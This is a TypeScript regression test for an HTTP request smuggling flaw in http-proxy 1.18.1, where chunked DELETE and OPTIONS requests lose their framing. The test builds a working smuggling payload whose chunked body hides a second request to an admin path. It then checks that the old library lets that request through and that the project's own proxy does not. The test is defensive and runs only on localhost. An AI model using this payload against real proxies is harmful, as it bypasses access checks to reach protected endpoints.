// CVE-2026-29057 (GHSA-ggv3-7p47-pfv8; http-proxy #1720): a DELETE or OPTIONS with a chunked body loses its framing on
// the way, because Node frames by the method's name. What the client sent as a body is then read by the upstream as the
// next request: one DELETE through the front door, and a second request of the attacker's making behind it, past every
// check. http-proxy 1.18.1 as it is usually wired does it; the first test keeps that reason alive.
import { once } from 'node:events';
import { Agent, createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import httpProxy from 'http-proxy';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { ProxyStage } from './kit/proxy-stage.js';
import { RawConnection } from './kit/raw-connection.js';

const stage = new ProxyStage();
const SMUGGLED = 'GET /proxy/cl-victim/80/admin HTTP/1.1\r\nHost: agent\r\n\r\n';
const METHODS = ['DELETE', 'OPTIONS'];

/** The attack: the body of one request is another request. */
function attack(method: string, lines: readonly string[]): string {
  const head = stage.bare(method, '/x', [...lines, 'Transfer-Encoding: chunked']);
  return `${head}${SMUGGLED.length.toString(16)}\r\n${SMUGGLED}\r\n0\r\n\r\n`;
}

let agent: Server;
let agentPort = 0;
let targets: string[];

beforeAll(async () => {
  agent = createServer((request, response) => {
    targets.push(`${request.method} ${request.url}`);
    request.resume().on('end', () => response.end('ok'));
  });
  await once(agent.listen(0, '127.0.0.1'), 'listening');
  agentPort = (agent.address() as AddressInfo).port;
});
beforeEach(() => {
  targets = [];
});
afterAll(async () => {
  agent.closeAllConnections();
  await once(agent.close(), 'close');
});

describe('http-proxy 1.18.1, as it is usually wired', () => {
  let server: Server;
  const keepAlive = new Agent({ keepAlive: true });

  beforeEach(async () => {
    const proxy = httpProxy.createProxyServer({ changeOrigin: true, xfwd: true, agent: keepAlive });
    proxy.on('error', () => undefined);
    server = createServer((request, response) => {
      request.url = `/proxy/cl-own/80${request.url}`;
      proxy.web(request, response, { target: `http://127.0.0.1:${agentPort}` });
    });
    await once(server.listen(0, '127.0.0.1'), 'listening');
  });
  afterEach(() => {
    keepAlive.destroy();
    server.closeAllConnections();
    server.close();
  });

  it.each(METHODS)('lets a %s smuggle a second request in: why it is not used here', async (method) => {
    const client = await RawConnection.open((server.address() as AddressInfo).port);
    client.send(attack(method, ['Host: own']));
    await expect.poll(() => targets).toContain('GET /proxy/cl-victim/80/admin');
    client.close();
  });
});

describe('our proxy', () => {
  it.each(METHODS)('delivers a chunked %s as one request with a body', async (method) => {
    const host = await stage.hostOf(`127.0.0.1:${agentPort}`);
    const client = await stage.client();
    client.send(attack(method, [`Host: ${host}`, `X-API-Key: ${stage.team.key}`]));
    await client.until('ok');
    client.send(stage.bare('GET', '/after', [`Host: ${host}`, `X-API-Key: ${stage.team.key}`]));
    await client.until('ok');
    const prefix = `/proxy/${host.slice(3, host.indexOf('.'))}/80`;
    expect(targets).toEqual([`${method} ${prefix}/x`, `GET ${prefix}/after`]);
  });
});
